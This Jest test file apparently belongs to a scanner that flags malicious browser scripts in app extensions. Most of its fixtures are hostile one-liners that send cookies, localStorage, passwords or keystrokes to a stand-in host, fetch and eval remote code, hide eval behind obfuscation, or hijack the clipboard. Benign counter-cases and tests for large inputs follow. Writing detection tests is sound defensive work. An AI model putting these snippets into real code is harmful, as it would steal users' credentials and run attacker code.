import { describe, expect, it } from '@jest/globals';
import { checkAllScripts, checkScript } from '../../src/analysis/checks/javascript.js';

const isHeld = (source: string): boolean => checkScript(source).some(({ level }) => level === 'hold');

describe('the checks hold a script', () => {
  it.each<[string, string]>([
    [
      'that sends a database through a socket',
      `const r = indexedDB.open("a");
       r.onsuccess = () => {
         const db = r.result;
         const ws = new WebSocket("wss://e.example/");
         ws.onopen = () => { db.transaction("a").objectStore("a").getAll().onsuccess = (e) => ws.send(e.target.result); };
       };`,
    ],
    [
      'that finds the page by an element',
      'fetch("https://e.example/?" + app.canvasEl.ownerDocument.cookie); fetch("https://e.example/?" + app.canvasEl.getRootNode().cookie);',
    ],
    ['that makes a function by the class of a class', '"".constructor.constructor(atob(text))();'],
    ['that opens an address of decoded code', 'location = "javascript:" + atob("YWxlcnQoMSk=");'],
    ['that makes a page of decoded code', 'frame.srcdoc = "<script>" + atob(text) + "</" + "script>";'],
    ['that sends a callback’s argument', 'indexedDB.databases().then((l) => fetch("https://e.example", { body: l }));'],
    [
      'that loads a script of a host that has served malicious ones',
      'const s = document.createElement("script"); s.src = "https://polyfill.io/v3/polyfill.min.js"; document.head.append(s);',
    ],
    [
      'that names storage and sender in pieces',
      'const s = window["local" + "Storage"]; navigator["send" + "Beacon"]("//e.example/b", JSON.stringify(s));',
    ],
    [
      'that joins the name of the storage',
      'const s = Reflect.get(window, ["local", "Storage"].join("")); fetch("https://e.example", { body: s });',
    ],
    [
      'that joins the address',
      'const { localStorage: l } = window; const u = ["https:/", "e.example"].join("/"); fetch(u, { body: l.getItem("a") });',
    ],
    [
      'that gives `fetch` another name',
      'const send = window.fetch.bind(window); send("https://e.example/", { body: document.cookie });',
    ],
    [
      'that calls what a server elsewhere names',
      'const s = new WebSocket("wss://e.example"); s.onmessage = (e) => { const m = JSON.parse(e.data); window[m.f](...m.a); };',
    ],
    ['that decodes the name of a property', 'const s = window[atob("bG9jYWxTdG9yYWdl")]; fetch("/a", { body: s.a });'],
    ['that sends in a property', 'const i = new Image(); i["src"] = "https://e.example/?" + document.cookie;'],
    ['that sends with the ping of a link', 'a.ping = "https://e.example/?" + document["coo" + "kie"]; a.click();'],
    [
      'that names a channel by a secret',
      'const p = new RTCPeerConnection({ u: "stun:e.example" }); p.createDataChannel(localStorage.getItem("a"));',
    ],
    [
      'that sends what the user enters',
      'document.querySelectorAll("input").forEach((i) => { navigator.sendBeacon("https://e.example", i.value); });',
    ],
    [
      'that changes the address of the host’s client',
      'import { api } from "../scripts/api.js"; api.api_base = "//e.example"; api.fetchApi("/a", { body: document.cookie });',
    ],
    [
      'that replaces what makes the addresses of the host’s client',
      'import { api } from "../scripts/api.js"; api.apiURL = (path) => "https://e.example" + path; api.fetchApi("/a", { body: document.cookie });',
    ],
    [
      'that sends with its own function of the name of the host’s',
      'const fetchApi = (u, o) => fetch(u, o); fetchApi("https://e.example", { body: document.cookie });',
    ],
    ['that makes a function of a tagged text', 'Function`fetch("https://e.example/?" + document.cookie)` ``;'],
    ['that names a window by the storage', 'window.open("https://e.example/", JSON.stringify(localStorage));'],
    [
      'that finds the storage by the name of a property of a proxy',
      'const p = new Proxy({}, { get: (_, name) => window[`${name}Storage`] }); fetch("https://e.example/", { method: "PUT", body: JSON.stringify(p.local) });',
    ],
    [
      'that reads a cookie in a proxy',
      'const p = new Proxy({}, { get: () => document.cookie }); fetch("https://e.example/?" + p.a);',
    ],
    [
      'that inserts a form with a secret',
      'document.body.innerHTML += `<form action="https://e.example"><input name="a" value="${localStorage.token}"></form>`;',
    ],
    [
      'that fills and sends a form which it inserts',
      'box.innerHTML = `<form action="https://e.example"><input name="a"></form>`; const form = box.querySelector("form"); form.elements.a.value = JSON.stringify({ ...localStorage }); form.submit();',
    ],
    [
      'that applies methods of a prototype to a request',
      'const { open, send } = XMLHttpRequest.prototype; const r = new XMLHttpRequest(); Reflect.apply(open, r, ["POST", "https://e.example"]); Reflect.apply(send, r, [document.cookie]);',
    ],
    ['that calls eval indirectly', 'fetch("https://e.example/p").then((r) => r.text()).then((t) => (0, eval)(t));'],
    ['that passes eval on', 'fetch("https://e.example/p").then((r) => r.text()).then(eval);'],
    ['that gives eval another name', 'const e = eval; fetch("https://e.example/p").then((r) => r.text()).then(e);'],
    ['that evaluates a decoded text', 'self["eval"](atob("YWxlcnQoMSk="));'],
    ['that makes a function of an answer', 'new Function(await fetch("/p").then((r) => r.text()))();'],
    [
      'that makes an asynchronous function of an answer',
      'const F = (async () => {}).constructor; const r = await fetch("https://e.example/p"); F(await r.text())();',
    ],
    ['that writes a script element', 'document.write("<script src=//e.example/p.js></" + "script>");'],
    [
      'that sets the source of a script as an attribute',
      'const s = document.createElement("script"); s.setAttribute("src", "https://e.example/p.js");',
    ],
    [
      'that fills a script element with an answer',
      'const s = document.createElement("script"); s.textContent = await (await fetch("https://e.example/p")).text();',
    ],
    [
      'that imports an answer',
      'const b = new Blob([await (await fetch("https://e.example/p")).text()], { type: "text/javascript" }); import(URL.createObjectURL(b));',
    ],
    [
      'that sends each workflow',
      'const q = api.queuePrompt; api.queuePrompt = async (n, p) => { fetch("https://e.example/w", { body: p }); return q(n, p); };',
    ],
    ['that sends with jQuery', '$.post("https://e.example", { c: document.cookie });'],
    [
      'that sends a form',
      'const b = new FormData(); b.append("c", document.cookie); fetch("https://e.example", { body: b });',
    ],
    [
      'that takes the cookie out of the document',
      'const { cookie } = document; fetch("https://e.example", { body: cookie });',
    ],
    ['that sends with an attribute', 'i.setAttribute("src", "https://e.example/?" + localStorage.getItem("a"));'],
    [
      'that sends with an element',
      'b.insertAdjacentHTML("beforeend", "<iframe src=https://e.example/?" + document.cookie + ">");',
    ],
    [
      'that decodes the address',
      'const u = decodeURIComponent("https%3A%2F%2Fe.example"); fetch(u, { body: document.cookie });',
    ],
    ['that escapes letters', 'const a = "\\x65\\x76\\x61\\x6c"; window[a]("alert(1)");'],
    ['that calls a function by a decoded name', 'const s = String.fromCharCode(101, 118, 97, 108); window[s]("a()");'],
    ['that takes the constructor of a method', '[]["filter"]["constructor"]("alert(1)")();'],
    [
      'that decodes a script element',
      'const s = document.createElement("script"); s.innerHTML = atob("YWxlcnQoMSk=");',
    ],
    [
      'that names a property by a constant',
      'const k = "cookie"; const v = document[k]; fetch("https://e.example/?" + v);',
    ],
    [
      'that makes an address of parts',
      'const h = ["e", "example"].join("."); const u = new URL("https://" + h); u.search = document.cookie; fetch(u);',
    ],
    [
      'that sends a field of an object',
      `class T {
        constructor() { this.d = localStorage.getItem("a"); }
        go() { fetch("https://e.example", { body: this.d }); }
      }`,
    ],
    [
      'that lets a timer run an answer',
      'const t = await (await fetch("https://e.example/p")).text(); setTimeout(t, 0);',
    ],
    [
      'that makes a function with parameters of an answer',
      'const t = await (await fetch("https://e.example/p")).text(); new Function("a", t)(1);',
    ],
    ['that imports from a constant address', 'const u = "https://e.example/p.js"; import(u);'],
    [
      'that loads a script from a constant address',
      'const s = document.createElement("script"); const u = "https://e.example/p.js"; s.src = u;',
    ],
    ['that runs the text of a message', 'window.addEventListener("message", (e) => { eval(e.data); });'],
    [
      'that sends each prompt',
      'const g = app.graphToPrompt; app.graphToPrompt = async () => { const r = await g(); navigator.sendBeacon("https://e.example", r); return r; };',
    ],
    ['that is long because of spaces', `${' '.repeat(70_000)}\nconst e = eval; fetch("https://e.example/p").then(e);`],
    [
      'that composes an address of a secret',
      'const u = `https://e.example/?${btoa(localStorage.getItem("a"))}`; go(u);',
    ],
    [
      'that sends a secret in a style',
      'const t = localStorage.getItem("a"); s.textContent = `a { background: url(https://e.example/?${t}) }`;',
    ],
    [
      'that sends what a loop finds',
      'for (const i of document.querySelectorAll("input[type=password]")) fetch("https://e.example/?" + i.value);',
    ],
    [
      'that sends the keys of a listener',
      'let s = ""; addEventListener("keydown", (pressed) => { s += pressed.code; fetch("https://e.example/", { body: s }); });',
    ],
    [
      'that sends what the host stores',
      'const s = await (await fetch("/api/settings")).json(); fetch("https://e.example", { body: JSON.stringify(s) });',
    ],
    [
      'that runs messages with more text',
      'const w = new WebSocket("wss://e.example/"); w.onmessage = (e) => Function("return " + e.data)();',
    ],
    [
      'that makes a worker of a fetched text',
      'const t = await (await fetch("https://e.example/")).text(); new Worker(URL.createObjectURL(new Blob([t], { type: "text/javascript" })));',
    ],
    [
      'that loads a script from a decoded address',
      'const s = document.createElement("script"); s.src = atob("aHR0cHM6Ly9lLmV4YW1wbGU="); document.head.append(s);',
    ],
    [
      'that loads a script from the address of a constant',
      'const u = "https://e.example/" + "a.js"; const s = document.createElement("script"); s.src = u + "?1";',
    ],
    ['that imports code from an address with data', 'import("data:text/javascript;base64,YWxlcnQoMSk=");'],
    [
      'that inserts a fetched page',
      'fetch("https://e.example/a").then((r) => r.text()).then((t) => { e.insertAdjacentHTML("beforeend", t); });',
    ],
    [
      'that inserts a fetched text into an attribute',
      'const t = await (await fetch("https://e.example/a")).text(); e.innerHTML = `<img src=x onerror="${t}">`;',
    ],
    [
      'that replaces what the user copies',
      'addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", "a"); e.preventDefault(); });',
    ],
    [
      'that replaces the clipboard again and again',
      'setInterval(() => { if (seen) navigator.clipboard.writeText("0x1"); }, 500);',
    ],
    [
      'that names the storage and the sender in constants',
      'const a = "local", b = "x";\nconst n = "Storage"; const s = window[a + n]; navigator["send" + "Beacon"]("//e.example/b", localStorage.a);',
    ],
    [
      'that imports from the parts of an address',
      'const parts = ["https:", "", "e.example", "a.mjs"]; const m = await import(parts.join("/"));',
    ],
    [
      'that sends through its own function',
      'const go = (...a) => Reflect.apply(globalThis["fe" + "tch"], null, a); go("https://e.example/", { body: document.cookie });',
    ],
    [
      'that sends through a function with a body',
      'function post(u, b) { return fetch(u, { body: b }); } post("https://e.example/", sessionStorage.a);',
    ],
    [
      'that replaces a method of an alias',
      'const p = XMLHttpRequest.prototype; p.send = (b) => navigator.sendBeacon("https://e.example/", b);',
    ],
    [
      'that defines another fetch',
      'Object.defineProperty(window, "fetch", { value: (u, o) => navigator.sendBeacon("https://e.example/", o.body) });',
    ],
    [
      'that chooses fields by names of secrets',
      'for (const w of node.widgets) if (/key|token/i.test(w.name)) fetch("https://e.example", { body: w.value });',
    ],
    [
      'that asks the user for a password',
      'const k = prompt("Enter your API key:"); new Image().src = "https://e.example/?" + k;',
    ],
    [
      'that sends results of the host',
      'api.addEventListener("executed", ({ detail }) => { fetch("https://e.example/", { body: JSON.stringify(detail) }); });',
    ],
    [
      'that sends the workflow again and again',
      'setInterval(() => navigator.sendBeacon("https://e.example/", JSON.stringify(app.graph.serialize())), 9);',
    ],
    [
      'that covers the page',
      `document.body.innerHTML = '<iframe src="https://e.example/login" style="position:fixed"></iframe>';`,
    ],
    ['that runs a changed text after a time', 'const c = "a-b"; setTimeout(c.replace(/-/g, "e"), 10);'],
  ])('%s', (_what, source) => expect(isHeld(source)).toBe(true));
});

describe('the checks do not hold a script', () => {
  const news = 'fetch("https://api.github.com/repos/a/b/releases").then((r) => r.json()).then(show);\n';

  it.each<[string, string]>([
    ['with a method that is called eval', `${news}class E { exec(x) { return x; } eval(x) { return this.exec(x); } }`],
    [
      'that stores its own settings',
      `${news}localStorage.setItem("a", JSON.stringify({ theme: localStorage.theme }));`,
    ],
    ['that replaces a method of the client', `${news}api.queuePrompt = async (n, p) => { mark(p); return q(n, p); };`],
    ['that loads its own script', `${news}const s = document.createElement("script"); s.src = "./a.js";`],
    ['that fills a style element', `${news}const s = document.createElement("style"); s.textContent = css;`],
    [
      'that reads the input of a dialog',
      'const i = dialog.querySelector("input"); api.fetchApi("/a", { body: i.value });',
    ],
    [
      'that sends a setting to its own server, and fetches from elsewhere',
      `const r = await api.fetchApi("/a?tab=" + sessionStorage.getItem("tab"));
       const n = await fetch("https://api.example/models").then((r) => r.json());`,
    ],
    [
      'that stores what it has fetched',
      `const theme = localStorage.getItem("theme");
       fetch("https://e.example/themes.json").then((l) => { localStorage.setItem("themes", l.find((t) => t.name === theme)); });`,
    ],
    ['that waits', `${news}const t = await response.json(); setTimeout(draw, 0); setTimeout(() => f(t), 10);`],
    ['that makes a function of a constant', `${news}const f = new Function("a", "b", "return a + b");`],
    [
      'with control characters',
      `${news}const up = "\\x1b[1m\\x1b[0m\\x00\\x41"; const t = String.fromCharCode(65); list[t] = 1;`,
    ],
    [
      'with links in a list',
      `${news}const r = localStorage.getItem("a"); d.innerHTML = '<a href="https://e.example">' + r + '</a>';`,
    ],
    ['that indexes a list', 'const c = colors["red"]; const m = window["app"]; m.draw(c);'],
    ['that inserts a text of the same server', 'const t = await (await fetch("./help.html")).text(); e.innerHTML = t;'],
    [
      'that cleans what it inserts',
      'const t = await (await fetch("https://e.example/a")).text(); e.innerHTML = clean(t);',
    ],
    ['that copies on a click', 'b.onclick = () => navigator.clipboard.writeText("a"); setInterval(() => draw(), 9);'],
    [
      'that copies what the user selected',
      'addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", JSON.stringify(selected)); });',
    ],
    ['that reacts to keys', `${news}addEventListener("keydown", (e) => { if (e.key === "s") save(); });`],
    [
      'that loads a library from the address of a constant',
      'const u = { three: "https://esm.sh/three" }; await import(u.three);',
    ],
    ['that runs a constant', `${news}const f = new Function("return this"); class A { eval(a) { return a; } }`],
    [
      'that shows the answer of a service',
      'fetch("https://e.example/a").then((r) => r.json()).then((d) => { e.innerHTML = `<b>${d.name}</b>`; });',
    ],
    [
      'that sends a setting to its own server only',
      'api.fetchApi("/settings").then((r) => r.json()).then((s) => show(s));',
    ],
    [
      'that shares a workflow when the user asks for it',
      'b.onclick = async () => { const w = await app.graphToPrompt(); fetch("https://e.example/share", { body: w }); };',
    ],
    ['that asks for a name', 'const k = prompt("Enter a name:"); fetch("https://e.example/?q=" + k);'],
    [
      'that hides fields with secrets',
      'for (const w of node.widgets) if (/key|token/i.test(w.name)) w.inputEl.type = "text";',
    ],
    ['that listens to the host', `${news}api.addEventListener("executed", ({ detail }) => { show(detail.output); });`],
    ['that shows a page in a dialog', `dialog.innerHTML = '<iframe src="https://e.example/docs"></iframe>';`],
    ['that waits for a text', `${news}const t = title.trim(); setTimeout(() => show(t.replace("a", "b")), 10);`],
  ])('%s', (_what, source) => expect(isHeld(source)).toBe(false));
});

describe('the checks of large scripts', () => {
  const bundle = (length: number): string => {
    const part = (at: number): string =>
      `function f${at}(a, b) { const c = { a, b, d: [a, b] }; return c.d.map((e) => g(e, b)).filter((e) => e !== a); }\n`;
    return Array.from({ length: Math.ceil(length / 110) }, (_, at) => part(at)).join('');
  };
  const theft = 'fetch("https://e.example/?" + document.cookie);';

  it('warn about those that are too large to be followed', () => {
    const found = checkScript(bundle(1_100_000));
    expect(found.map(({ level, message }) => [level, message])).toEqual([
      ['warn', 'is too large to be followed, so only its text was checked'],
    ]);
  });

  const isHeldIn = (source: string): boolean => checkScript(source).some(({ level }) => level === 'hold');

  it('hold those that run fetched code', () => {
    const code = 'fetch("https://e.example/a.js").then((r) => r.text()).then((t) => (0, eval)(t));';
    expect(isHeldIn(bundle(100_000) + code)).toBe(true);
    expect(isHeldIn(bundle(1_100_000) + code)).toBe(true);
  });

  it.each([
    [
      'hides what it reads',
      'const secret = document["coo" + "kie"];\nnavigator.sendBeacon("https://e.example/", secret);',
    ],
    [
      'sends what it has read in another statement',
      'const values = {};\nfor (const key of Object.keys(localStorage)) values[key] = localStorage.getItem(key);\nnew Image().src = "https://e.example/?" + JSON.stringify(values);',
    ],
    [
      'loads a script',
      'const more = document.createElement("script");\nmore.src = "https://e.example/a.js";\ndocument.head.append(more);',
    ],
  ])('hold one that is too large to be followed and %s', (_what, steps) => {
    const half = bundle(600_000);
    expect(isHeldIn(`${half}${steps}\n${half}`)).toBe(true);
    expect(isHeldIn(`${half}${half}${steps}\n`)).toBe(true);
  });

  it('hold those that are too deeply nested', () => {
    const nested = `const cookie = ${'['.repeat(100_000)}${']'.repeat(100_000)};\n`;
    expect(isHeldIn(nested + theft)).toBe(true);
    expect(isHeldIn(`${bundle(1_100_000)}${nested}`)).toBe(true);
    expect(isHeldIn(`${bundle(1_100_000)}${nested}${bundle(30_000)}${theft}\n`)).toBe(true);
  });

  it.each([
    ['stores an item', 'localStorage.setItem("view", v)', false],
    ['reads an item', 'localStorage.getItem("view", v)', true],
    ['passes the storage on', 'copy(localStorage)', true],
  ])('judge one that %s where a minified statement opens a window, held: %s', (_what, call, held) => {
    const minified = `const keep=(v)=>{${call}},help=()=>{window.open("https://docs.example/help","_blank")};\n`;
    expect(isHeldIn(bundle(500_000) + minified)).toBe(held);
  });

  it('follow short statements after one that takes all steps', () => {
    const calls = Array.from({ length: 3000 }, (_, at) => `f${at}(f${at + 1}(1, 2), f${at + 2}(3, 4));`).join('\n');
    const long = `(function () {\n${bundle(500_000)}${calls}\n})();\n`;
    const steps =
      'const d = {};\nfor (const k of Object.keys(localStorage)) d[k] = localStorage.getItem(k);\nconst t = btoa(JSON.stringify(d));\nnew Image().src = "https://e.example/?" + t;\n';
    expect(isHeldIn(long)).toBe(false);
    expect(isHeldIn(long + steps)).toBe(true);
  });

  it('find a theft among many of them', () => {
    const texts = new Map(Array.from({ length: 30 }, (_, at) => [`web/${at}.js`, bundle(40_000)]));
    texts.set('web/small.js', theft);
    texts.set('web/bundle.js', `${bundle(500_000)}${theft}`);
    const held = checkAllScripts(texts).filter(({ level }) => level === 'hold');
    expect(held.map(({ path }) => path)).toContain('web/small.js');
    expect(held.map(({ path }) => path)).toContain('web/bundle.js');
  });
});
